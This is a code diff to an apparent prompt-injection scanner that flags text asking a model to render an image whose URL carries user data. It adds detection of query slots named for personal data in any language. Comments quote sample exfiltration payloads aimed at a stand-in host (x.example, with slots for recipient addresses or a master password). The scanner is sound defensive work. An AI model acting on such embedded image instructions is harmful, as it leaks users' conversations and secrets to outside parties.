@@ -2,6 +2,7 @@ import { sentenceAround } from './excerpt.ts';
 import { urlToDataSlot } from './exfiltration-rules.ts';
 import { matchesOf, type Hit } from './hit.ts';
 import { clauseAround, isDirective, isNegatedAt } from './mood.ts';
+import { textToPhraseMatches } from './phrase-rules.ts';
 
 /**
  * Two more ways a URL turns against the user. An image the model is to show whose address carries
@@ -51,12 +52,37 @@ export function textToImageHits(text: string): Hit[] {
     // "![logo](https://x.example/l.png?u=<recipient addresses>) … fill in the placeholders": whatever the data, rendering sends it.
     // The order to fill may be the next sentence: "… ![logo](…?u=<recipients>). Fill in the placeholders from the emails."
     const toFill = PLACEHOLDER_SLOT.test(url) && FILL_SLOT.test(`${context} ${after.split(/[.!?]\s/).slice(0, 2).join('. ')}`);
+    // "?p=사용자의_마스터_비밀번호", "?d=PASSWORT_DES_NUTZERS": a slot named, in any language, for the user's data.
+    const named = namedDataSlot(url);
+    if (named) return [image('high', `Asks for an image whose URL slot ${JSON.stringify(named)} names the user's data; rendering it sends the data.`, match.index, match[0].length)];
     if (slot === 'held' || filled || toFill) return [image('high', 'Asks for an image whose URL carries the conversation or user data; rendering it sends the data.', match.index, match[0].length)];
     const pathSlot = matchesOf(PATH_SLOT, url.split('?')[0]!, 10).find((m) => PERSONAL_SLOT.test(m[0]));
     if (pathSlot) return [image('high', `Asks for an image whose path carries ${JSON.stringify(pathSlot[0])}; rendering it sends the data.`, match.index, match[0].length)];
     if (rest && isDirective(sentence.text) && EVERY_ANSWER.test(sentence.text)) return [image('medium', 'Asks for an image with a query slot to be shown in every answer.', match.index, match[0].length)];
   }
   return [];
+}
+
+const SLOT_VALUE = /[?&][\w.-]+=([^&#\s)"']{3,60})/g;
+
+/** The value of a query slot written as the name of personal data (`PASSWORD_OF_USER`, `история_переписки`), not as a value. */
+function namedDataSlot(url: string): string | undefined {
+  for (const match of matchesOf(SLOT_VALUE, url, 10)) {
+    const value = tryDecodeURI(match[1]!);
+    // A slot is a name when it is upper case with underscores, or written in another script; a lower-case word is a value (`?q=password`).
+    if (!/^[A-ZÀ-ÖØ-Þ][A-Z0-9À-ÖØ-Þ]*(?:_[A-Z0-9À-ÖØ-Þ]+)+$/.test(value) && !/[^\x00-\x7f]{2}/.test(value)) continue;
+    const words = value.replace(/_+/g, ' ');
+    if (PERSONAL_SLOT.test(words) || textToPhraseMatches(words).some((m) => m.concept === 'userData')) return value;
+  }
+  return undefined;
+}
+
+function tryDecodeURI(text: string): string {
+  try {
+    return decodeURIComponent(text);
+  } catch {
+    return text;
+  }
 }
 
 function image(severity: 'high' | 'medium', message: string, index: number, length: number): Hit {
